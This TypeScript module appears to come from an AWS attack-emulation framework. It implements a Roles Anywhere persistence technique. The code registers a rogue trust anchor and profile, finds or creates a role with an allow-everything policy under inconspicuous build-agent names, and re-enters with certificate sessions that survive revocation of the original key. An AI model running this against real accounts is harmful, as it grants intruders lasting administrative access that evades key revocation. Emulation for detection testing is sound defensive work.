import { z } from 'zod'
import { type Actor, createActor } from '../actor.js'
import { allowEverything } from '../attackers/allow-everything.js'
import { listAll } from '../attackers/listing.js'
import { Tasks } from '../attackers/tasks.js'
import { AnywhereGuest } from './anywhere-guest.js'
import { nameSchema } from './names.js'
import { defineTechnique } from './technique.js'

const service = 'rolesanywhere.amazonaws.com'
const roleReply = z.object({ Role: z.object({ Arn: z.string() }) })
const listedRole = z.object({ RoleName: z.string(), Arn: z.string(), AssumeRolePolicyDocument: z.string() })
const resourceName = z.string().regex(/^[ \w-]{1,255}$/, 'it must be letters, digits, spaces, _ and -')

/**
 * Registers an authority of its own as a trust anchor and a profile that hands out a role, and comes back by a certificate: no
 * access key is needed any more, and a block on whoever made them changes nothing. It ends with the profile or the trust anchor
 * once the sessions that they gave are over, or with a block on the profile's role.
 */
export const rolesAnywherePersistence = defineTechnique({
  name: 'roles-anywhere-persistence',
  attackId: 'T1098.001',
  gainsCredentials: true,
  summary: 'registers a trust anchor and a profile of Roles Anywhere, and comes back by a certificate of its own',
  parameters: z.strictObject({
    /** What the profile hands out; absent: the first role that lets Roles Anywhere in, or one that it makes. */
    role: nameSchema.optional(),
    newRole: nameSchema.default('svc-build-agents'),
    trustAnchor: resourceName.default('build CA'),
    profile: resourceName.default('build agents'),
  }),
  begin: (context, { role, newRole, trustAnchor, profile }) => {
    const { account, accessKeyId, sourceIp, userAgent } = context
    const first = createActor({ account, accessKeyId, sourceIp, userAgent })
    const guest = new AnywhereGuest(context, first)
    const sessions: Actor[] = []
    let roleArn: string | null = null
    const tasks = new Tasks([
      () => guest.registerAnchor(trustAnchor),
      () => {
        roleArn ??= openRole(first, role) ?? (role === undefined ? makeRole(first, newRole) : null)
        return roleArn !== null && guest.registerProfile(profile, roleArn)
      },
    ])
    const act = () => {
      first.call({ service: 's3', action: 'ListBuckets' })
      tasks.attempt()
      const isIn = sessions.at(-1)?.call({ service: 's3', action: 'ListBuckets' }).ok ?? false
      const session = isIn || roleArn === null ? null : guest.enter(roleArn)
      if (session === null) return
      sessions.push(session)
      session.call({ service: 's3', action: 'ListBuckets' })
    }
    const credentials = () => [accessKeyId, ...sessions.map((session) => session.accessKeyId)]
    return { act, credentials, doors: () => (roleArn === null ? [] : guest.doors(roleArn)) }
  },
})

/** The role of this name, or the first that lets the service in. null: there is none, or it may not look. */
function openRole(by: Actor, wanted: string | undefined): string | null {
  const roles = listAll(by, { action: 'ListRoles', field: 'Roles', item: listedRole }) ?? []
  const found = roles.find(({ RoleName, AssumeRolePolicyDocument }) =>
    wanted === undefined ? decodeURIComponent(AssumeRolePolicyDocument).includes(service) : RoleName === wanted,
  )
  return found?.Arn ?? null
}

/** null: it may not. */
function makeRole(by: Actor, RoleName: string): string | null {
  const Action = ['sts:AssumeRole', 'sts:TagSession', 'sts:SetSourceIdentity']
  const Statement = [{ Effect: 'Allow', Principal: { Service: service }, Action }]
  const trust = { AssumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement }) }
  const made = by.call({ service: 'iam', action: 'CreateRole', parameters: { RoleName, ...trust } })
  if (!made.ok) return null
  const policy = { PolicyName: 'build', PolicyDocument: allowEverything }
  by.call({ service: 'iam', action: 'PutRolePolicy', parameters: { RoleName, ...policy } })
  return roleReply.parse(made.result).Role.Arn
}
